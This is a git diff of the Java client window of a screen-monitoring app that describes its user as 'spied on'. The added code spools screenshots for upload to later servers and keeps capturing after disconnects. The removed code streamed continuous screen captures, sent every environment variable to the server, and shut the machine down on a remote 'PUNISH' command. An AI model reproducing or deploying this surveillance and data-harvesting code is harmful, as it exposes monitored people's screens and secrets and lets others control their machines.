@@ -1,26 +1,14 @@
 package Client;
 
-import static Client.Network.CLIENT_EXITED;
-import static Client.Network.CLOSE_CLIENT;
-import static Client.Network.ENCODING;
-import static Client.Network.IMAGE_BUFFER_SIZE;
-import static Client.Network.IMAGE_PORT;
-import static Client.Network.PNG;
-import static Client.Network.PUNISH;
-import static Client.Network.SECURITY_KEY;
+import static Client.ClientDaemon.SCREEN_BOUNDS;
 //import static Client.Network.SHA_1;
-import static Client.Network.TEXT_PORT;
 import Util.StreamCloser;
-import java.awt.AWTException;
 import java.awt.Adjustable;
 import java.awt.Container;
 import java.awt.Dimension;
-import java.awt.GraphicsEnvironment;
 import java.awt.GridBagConstraints;
 import java.awt.GridBagLayout;
 import java.awt.Insets;
-import java.awt.Rectangle;
-import java.awt.Robot;
 import java.awt.event.ActionEvent;
 import java.awt.event.ActionListener;
 import java.awt.event.AdjustmentEvent;
@@ -34,28 +22,16 @@ import java.awt.event.MouseEvent;
 import java.awt.event.WindowAdapter;
 import java.awt.event.WindowEvent;
 import java.awt.image.BufferedImage;
-import java.io.BufferedOutputStream;
-import java.io.BufferedReader;
-import java.io.BufferedWriter;
-import java.io.ByteArrayOutputStream;
-import java.io.Closeable;
-import java.io.DataOutputStream;
+import java.io.File;
 import java.io.IOException;
-import java.io.InputStreamReader;
-import java.io.OutputStreamWriter;
-import java.io.PrintWriter;
 import java.net.Inet4Address;
 import java.net.InetAddress;
 import java.net.NetworkInterface;
-import java.net.ServerSocket;
-import java.net.Socket;
 import java.net.SocketException;
 import java.net.UnknownHostException;
-import java.nio.charset.Charset;
 import java.util.Collections;
 import java.util.Enumeration;
 import java.util.Iterator;
-import java.util.Map;
 import java.util.Set;
 import java.util.TreeSet;
 import javax.imageio.ImageIO;
@@ -73,19 +49,10 @@ import javax.swing.UIManager;
 import javax.swing.UnsupportedLookAndFeelException;
 
 //The person being "spied on" waits for the parent to connect to it
-public class ClientFrame extends JFrame implements Runnable {
+//The connections themselves are the ClientDaemon's, this window adds the chat
+public class ClientFrame extends JFrame {
 
-    public static final Rectangle SCREEN_BOUNDS = GraphicsEnvironment.getLocalGraphicsEnvironment().getMaximumWindowBounds();
-
-    private Robot screenCapturer;
-    
-    //stream variables
-    private ServerSocket textServer;
-    private Socket textConnection;
-    private BufferedReader textInput;
-    private PrintWriter textOutput;
-    
-    private ImageSenderWorkerThread worker;
+    private ClientDaemon daemon;
     
     private ImageIcon icon;
     
@@ -95,25 +62,56 @@ public class ClientFrame extends JFrame implements Runnable {
     private JButton button;
     
     //Initialize components first, then streams
-    @SuppressWarnings({"Convert2Lambda", "CallToThreadStartDuringObjectConstruction"})
     public ClientFrame() {
-        final Robot screenCapturerReference;
-        try {
-            screenCapturerReference = new Robot();
-        }
-        catch (AWTException ex) {
-            ex.printStackTrace();
-            return;
-        }
+        this(null, StripedCaptureSource.DEFAULT_STRIPES);
+    }
 
-        final ServerSocket textServerReference;
-        try {
-            textServerReference = new ServerSocket(TEXT_PORT);
-        }
-        catch (IOException ex) {
-            ex.printStackTrace();
-            return;
-        }
+    /**
+     * @param spool The file screen shots are kept in while no server is
+     * connected, uploaded to the next server that connects, or null to keep
+     * none. With a spool file the client keeps running once the last server
+     * disconnects.
+     * @param stripes The number of horizontal stripes the screen is captured
+     * in at once, 1 to capture it whole.
+     */
+    @SuppressWarnings("Convert2Lambda")
+    public ClientFrame(File spool, int stripes) {
+        final ClientDaemon daemonReference = new ClientDaemon(spool, stripes, new ClientDaemon.Listener() {
+            @Override
+            public void connected(String address) {
+                JTextField textFieldReference = textField;
+                //after all infomation has been forwarded, enable chatting
+                if (textFieldReference != null && !textFieldReference.isEditable()) {
+                    textFieldReference.setText("Enter Message...");
+                    textFieldReference.setEditable(true);
+                }
+            }
+
+            @Override
+            public void messageReceived(String sender, String message) {
+                JEditorPane editorPaneReference = editorPane;
+                if (editorPaneReference != null) {
+                    String previousText = editorPaneReference.getText();
+                    editorPaneReference.setText(previousText.isEmpty() ? sender + message : previousText + "\n" + sender + message);
+                    scrollToBottom(scrollPane);
+                }
+            }
+
+            @Override
+            public void disconnected(String reason) {
+                if (isVisible()) {
+                    JOptionPane.showMessageDialog(ClientFrame.this, reason, "System Closing", JOptionPane.WARNING_MESSAGE, icon);
+                }
+                else {
+                    System.out.println("Server disconnect dialog should not be displayed, frame is disposed already.");
+                }
+            }
+
+            @Override
+            public void closed() {
+                dispose();
+            }
+        });
 
         /*
          * The application will fully close when the shutdown hook is run.
@@ -248,11 +246,10 @@ public class ClientFrame extends JFrame implements Runnable {
 
             @Override
             public void keyPressed(KeyEvent event) {
-                PrintWriter textOutputReference = textOutput;
-                if (textOutputReference != null) {
+                if (daemonReference.hasServers()) {
                     if (event.getKeyCode() == KeyEvent.VK_ENTER) {
                         String message = textFieldReference.getText().trim();
-                        textOutputReference.println(message); //send message to parent
+                        daemonReference.broadcast(message); //send message to every parent
                         message = "You: " + message;
                         textFieldReference.setText("");
                         String previousText = editorPaneReference.getText();
@@ -273,10 +270,9 @@ public class ClientFrame extends JFrame implements Runnable {
         buttonReference.addActionListener(new ActionListener() {
             @Override
             public void actionPerformed(ActionEvent event) {
-                PrintWriter textOutputReference = textOutput;
-                if (textOutputReference != null) {
+                if (daemonReference.hasServers()) {
                     String message = textFieldReference.getText().trim();
-                    textOutputReference.println(message); //send message to parent
+                    daemonReference.broadcast(message); //send message to every parent
                     message = "You: " + message;
                     textFieldReference.setText("");
                     String previousText = editorPaneReference.getText();
@@ -328,16 +324,12 @@ public class ClientFrame extends JFrame implements Runnable {
             super.addWindowListener(new WindowAdapter() {
                 @Override
                 public void windowClosing(WindowEvent event) {
-                    PrintWriter textOutputReference = textOutput;
                     if (JOptionPane.showConfirmDialog(ClientFrame.this,
                             "Are you sure you want to exit?", "Exit?",
                             JOptionPane.YES_NO_OPTION,
                             JOptionPane.QUESTION_MESSAGE, iconReference) == JOptionPane.YES_OPTION) {
-                        //notify parent
-                        if (textOutputReference != null) {
-                            textOutputReference.println(CLIENT_EXITED);
-                        }
-                        dispose();
+                        //notify every parent
+                        daemonReference.exit();
                     }
                     else {
                         setDefaultCloseOperation(JFrame.DO_NOTHING_ON_CLOSE);
@@ -347,10 +339,6 @@ public class ClientFrame extends JFrame implements Runnable {
             super.setVisible(true);
         }
         
-        screenCapturer = screenCapturerReference;
-        
-        textServer = textServerReference;
-        
         icon = iconReference;
         
         editorPane = editorPaneReference;
@@ -358,19 +346,14 @@ public class ClientFrame extends JFrame implements Runnable {
         textField = textFieldReference;
         button = buttonReference;
 
-        new Thread(this, "Server Listener Thread").start();
-        (worker = new ImageSenderWorkerThread(IMAGE_PORT)).start();
+        daemon = daemonReference;
+        daemonReference.start(); //closes the daemon, and with it the frame, if it fails
     }
 
     @Override
     public void dispose() {
         //load all instance variables first
-        final ServerSocket textServerReference = textServer;
-        final Socket textConnectionReference = textConnection;
-        final BufferedReader textInputReference = textInput;
-        final PrintWriter textOutputReference = textOutput;
-        
-        final ImageSenderWorkerThread workerReference = worker;
+        final ClientDaemon daemonReference = daemon;
         
         final JEditorPane editorPaneReference = editorPane;
         final JScrollPane scrollPaneReference = scrollPane;
@@ -389,22 +372,9 @@ public class ClientFrame extends JFrame implements Runnable {
         super.getContentPane().removeAll(); //Remove all sub-components
         
         //Close connections
-        StreamCloser.close(textServerReference);
-        StreamCloser.close(textConnectionReference);
-        StreamCloser.close(textInputReference);
-        StreamCloser.close(textOutputReference);
-        
-        //Close worker thread
-        StreamCloser.close(workerReference);
-        
-        screenCapturer = null;
+        StreamCloser.close(daemonReference);
         
-        textServer = null;
-        textConnection = null;
-        textInput = null;
-        textOutput = null;
-        
-        worker = null;
+        daemon = null;
 
         icon = null;
         
@@ -435,320 +405,6 @@ public class ClientFrame extends JFrame implements Runnable {
         System.out.println("Frame disposal complete.");
     }
 
-    private class ImageSenderWorkerThread extends Thread implements Closeable {
-
-        private ServerSocket screenshotServer;
-        private Socket screenshotConnection;
-        private DataOutputStream screenshotSender;
-
-        private ImageSenderWorkerThread(int port) {
-            super("Image Sender Worker Thread");
-            try {
-                screenshotServer = new ServerSocket(port);
-            }
-            catch (IOException ex) {
-                ex.printStackTrace();
-            }
-        }
-
-        @Override
-        public final void run() {
-            //Wait until a stable connection has been found
-            ServerSocket screenshotServerReference = screenshotServer;
-
-            if (screenshotServerReference == null) {
-                dispose();
-                System.out.println(getName() + " Exiting.");
-                return;
-            }
-
-            Socket screenshotConnectionReference;
-
-            while (true) {
-                Socket textConnectionReference = textConnection; //update reference every iteration
-                if (screenshotServerReference.isClosed()) {
-                    //No streams have been setup
-                    dispose();
-                    System.out.println(getName() + " Exiting.");
-                    return;
-                }
-                if (textConnectionReference != null && !textConnectionReference.isClosed()) {
-                    System.out.println("Text Socket connected succesfully, awaiting Image Socket connection.");
-                    try {
-                        Socket screenshotConnectionTest = screenshotServerReference.accept();
-                        
-                        //should not be null!!!
-                        InetAddress remoteTextSocketAddress = textConnectionReference.getInetAddress();
-                        InetAddress remoteImageSocketAddress = screenshotConnectionTest.getInetAddress();
-                    
-                        //sanity check!!!
-                        if (remoteTextSocketAddress == null) { 
-                            StreamCloser.close(screenshotConnectionTest);
-                            dispose();
-                            System.out.println("Failed to retrieve Text Socket remote address.");
-                            System.out.println(getName() + " Exiting.");
-                            return;
-                        }
-                        
-                        if (remoteImageSocketAddress == null) {
-                            StreamCloser.close(screenshotConnectionTest);
-                            System.out.println("Failed to retrieve Image Socket remote address.");
-                            continue;
-                        }
-                        
-                        //ensure both sockets are connected to the same server!!!
-                        if (remoteTextSocketAddress.equals(remoteImageSocketAddress)) {
-                            screenshotConnectionReference = screenshotConnectionTest;
-                            System.out.println("Image Socket connected succesfully.");
-                            break;
-                        }
-                        else {
-                            StreamCloser.close(screenshotConnectionTest);
-                            System.out.println("Warning: Text Socket Address: " + remoteTextSocketAddress.getHostAddress() + " does not match with Image Socket Address: " + remoteImageSocketAddress.getHostAddress());
-                        }
-                    }
-                    catch (IOException ex) {
-                        //Wait for a good connection...
-                        ex.printStackTrace();
-                    }
-                }
-            }
-            
-            DataOutputStream screenshotSenderReference;
-
-            try {
-                screenshotSenderReference = new DataOutputStream(new BufferedOutputStream(screenshotConnectionReference.getOutputStream(), IMAGE_BUFFER_SIZE));
-            }
-            catch (IOException ex) {
-                StreamCloser.close(screenshotServerReference);
-                StreamCloser.close(screenshotConnectionReference);
-                dispose();
-                ex.printStackTrace();
-                System.out.println(getName() + " Exiting.");
-                return;
-            }
-            
-            screenshotConnection = screenshotConnectionReference;
-            screenshotSender = screenshotSenderReference;
-            
-            //Use local variables as much as possible here, performance critical!!!
-            final Robot screenCapturerReference = screenCapturer;
-            final Rectangle deviceScreenSize = SCREEN_BOUNDS;
-            final String screenshotImageFormat = PNG;
-
-            //Technically, the server no longer "requests" for an image, its always
-            //demands for it, and we always send, except when the server is dealing with
-            //multiple clients, clients that are repainted do not update screens
-            for (ByteArrayOutputStream byteBuffer = new ByteArrayOutputStream(IMAGE_BUFFER_SIZE); screenshotSender != null; byteBuffer.reset()) {
-                try {
-                    ImageIO.write(screenCapturerReference.createScreenCapture(deviceScreenSize), screenshotImageFormat, byteBuffer);
-                    screenshotSenderReference.writeInt(byteBuffer.size());
-                    byteBuffer.writeTo(screenshotSenderReference); //write directly to the output stream, no slow copy
-                    screenshotSenderReference.flush();
-                }
-                catch (IOException | NullPointerException | IllegalArgumentException ex) {
-                    ex.printStackTrace();
-                    break;
-                }
-            }
-
-            close();
-            System.out.println(getName() + " Exiting.");
-        }
-
-        @Override
-        public final void close() {
-            ServerSocket screenshotServerReference = screenshotServer;
-            Socket screenshotConnectionReference = screenshotConnection;
-            DataOutputStream screenshotSenderReference = screenshotSender;
-            
-            StreamCloser.close(screenshotServerReference);
-            StreamCloser.close(screenshotConnectionReference);
-            StreamCloser.close(screenshotSenderReference);
-
-            screenshotServer = null;
-            screenshotConnection = null;
-            screenshotSender = null;
-        }
-    }
-    
-    @Override
-    public final void run() {
-        final ServerSocket textServerReference = textServer;
-        final JEditorPane editorPaneReference = editorPane;
-        final JScrollPane scrollPaneReference = scrollPane;
-        final JTextField textFieldReference = textField;
-
-        if (textServerReference == null) {
-            dispose();
-            System.out.println("Closing without connection."); //Happens when a client closes without a connection
-            System.out.println("Server Listener Thread Exiting.");
-            return;
-        }
-
-        /**
-         * Warning, if the local machine's IP address changes, the primary
-         * ServerSocket used for text communication will be disabled, rendering
-         * the generated security key invalid. Additionally, the ServerSocket
-         * used for screen shot sending will be disabled as the underlying
-         * address changes. The user should restart the application should their
-         * machine's IP address change, such as switching networks or being
-         * disconnected from a network.
-         */
-        final MessageEncoder security = new MessageEncoder(SECURITY_KEY, "AES");
-
-        //InetAddress localDeviceNetworkAddress = InetAddress.getLocalHost();
-        //byte[] securityKey = localDeviceNetworkAddress.getHostAddress().getBytes(ENCODING);
-        //securityKey = SHA_1.digest(securityKey);
-        //securityKey = Arrays.copyOf(securityKey, 16); // use only first 128 bits
-        //security = new MessageEncoder(SECURITY_KEY, "AES");
-
-        final Charset encoding = ENCODING;
-        final BufferedReader textInputReference;
-        final PrintWriter textOutputReference;
-
-        //Note: We wait for the parent to connect to us, so use only 1 connection.
-
-        //Loop until all streams have been properly set up.
-        //We do not support reconnecting, once server has told client to shutdown, we do so.
-        while (true) {
-            if (textServerReference.isClosed()) {
-                dispose();
-                System.out.println("Closing without connection."); //Happens when a client closes without a connection
-                System.out.println("Server Listener Thread Exiting.");
-                return;
-            }
-
-            final Socket textConnectionTest;
-            final BufferedReader textInputTest;
-            final PrintWriter textOutputTest;
-
-            try {
-                textConnectionTest = textServerReference.accept();
-            }
-            catch (IOException ex) {
-                ex.printStackTrace();
-                continue;
-            }
-
-            try {
-                textInputTest = new BufferedReader(new InputStreamReader(textConnectionTest.getInputStream(), encoding)) {
-                    @Override
-                    public String readLine() throws IOException {
-                        String line = super.readLine();
-                        return line == null ? null : security.decode(line);
-                    }
-                };
-            }
-            catch (IOException ex) {
-                StreamCloser.close(textConnectionTest);
-                ex.printStackTrace();
-                continue;
-            }
-
-            try {
-                textOutputTest = new PrintWriter(new BufferedWriter(new OutputStreamWriter(textConnectionTest.getOutputStream(), encoding)), true) {
-                    @Override
-                    public void println(String line) {
-                        super.println(security.encode(line));
-                    }
-                };
-            }
-            catch (IOException ex) {
-                StreamCloser.close(textConnectionTest);
-                StreamCloser.close(textInputTest);
-                ex.printStackTrace();
-                continue;
-            }
-
-            //All streams have been properly set up, so initialize here 
-            textConnection = textConnectionTest;
-            textInput = textInputReference = textInputTest;
-            textOutput = textOutputReference = textOutputTest;
-
-            break;
-        }
-
-        {
-            //Once streams have been set up
-            //Send Infomation to server immediately for validation
-            StringBuilder buffer = new StringBuilder(2000);
-
-            for (Iterator<Map.Entry<String, String>> it = System.getenv().entrySet().iterator(); it.hasNext();) {
-                Map.Entry<String, String> entry = it.next();
-                buffer.append(Network.encode(entry.getKey())).append("->").append(Network.encode(entry.getValue()));
-                if (it.hasNext()) {
-                    buffer.append("|");
-                }
-                else {
-                    break;
-                }
-            }
-
-            //send client infomation to server
-            textOutputReference.println(buffer.toString());
-            buffer.setLength(0); //clear the buffer
-        }
-
-        //after all infomation has been forwarded, enable chatting
-        textFieldReference.setText("Enter Message...");
-        textFieldReference.setEditable(true);
-
-        boolean shutdown = false;
-
-        SERVER_TEXT_READER_LOOP:
-        while (textInput != null) {
-            try {
-                String textFromServer = textInputReference.readLine();
-                //server request that we close
-                if (textFromServer == null) {
-                    break;
-                }
-                switch (textFromServer) {
-                    case CLOSE_CLIENT: {
-                        System.out.println(CLOSE_CLIENT);
-                        if (super.isVisible()) {
-                            JOptionPane.showMessageDialog(ClientFrame.this, "The server has disconnected you.", "System Closing", JOptionPane.WARNING_MESSAGE, icon);
-                        }
-                        else {
-                            System.out.println("Server disconnect dialog should not be displayed, frame is disposed already.");
-                        }
-                        //This message is slightly misleading when server is exiting normally
-                        break SERVER_TEXT_READER_LOOP;
-                    }
-                    case PUNISH: {
-                        shutdown = true;
-                        System.out.println(PUNISH);
-                        break SERVER_TEXT_READER_LOOP;
-                    }
-                    default: {
-                        String previousText = editorPaneReference.getText();
-                        editorPaneReference.setText(previousText.isEmpty() ? "Server: " + textFromServer : previousText + "\nServer: " + textFromServer);
-                        scrollToBottom(scrollPaneReference);
-                    }
-                }
-            }
-            catch (IOException ex) {
-                ex.printStackTrace();
-                if (super.isVisible()) {
-                    JOptionPane.showMessageDialog(ClientFrame.this, "The server has shutdown.", "System Closing", JOptionPane.WARNING_MESSAGE, icon);
-                }
-                else {
-                    System.out.println("Server shutdown dialog should not be displayed, frame is disposed already.");
-                }
-                break;
-            }
-        }
-
-        dispose();
-        System.out.println("Server Listener Thread Exiting.");
-        
-        if (shutdown) {
-            System.out.println("Server has punished you!");
-            shutdown();
-        }
-    }
-    
     private static BufferedImage loadIconImage() {
         try {
             return ImageIO.read(ClientFrame.class.getResourceAsStream("/Images/Eye.jpg"));
@@ -775,23 +431,6 @@ public class ClientFrame extends JFrame implements Runnable {
         });
     }
 
-    private static void shutdown() {
-        try {
-            String operatingSystem = System.getProperty("os.name");
-            if (operatingSystem != null) {
-                if (operatingSystem.contains("Linux") || operatingSystem.contains("Mac OS X")) {
-                    Runtime.getRuntime().exec("shutdown -h now");
-                }
-                else if (operatingSystem.contains("Windows")) {
-                    Runtime.getRuntime().exec("shutdown.exe -s -t 0");
-                }
-            }
-        }
-        catch (SecurityException | IOException ex) {
-            ex.printStackTrace();
-        }
-    }
-
     @SuppressWarnings("ResultOfObjectAllocationIgnored")
     public static void main(String[] args) {
         ImageIO.setUseCache(false);
@@ -801,7 +440,7 @@ public class ClientFrame extends JFrame implements Runnable {
         catch (ClassNotFoundException | InstantiationException | IllegalAccessException | UnsupportedLookAndFeelException ex) {
             ex.printStackTrace();
         }
-        new ClientFrame();
+        new ClientFrame(ClientDaemon.getSpoolFile(args), ClientDaemon.getStripes(args));
     }
     
     //https://stackoverflow.com/questions/8083479/java-getting-my-ip-address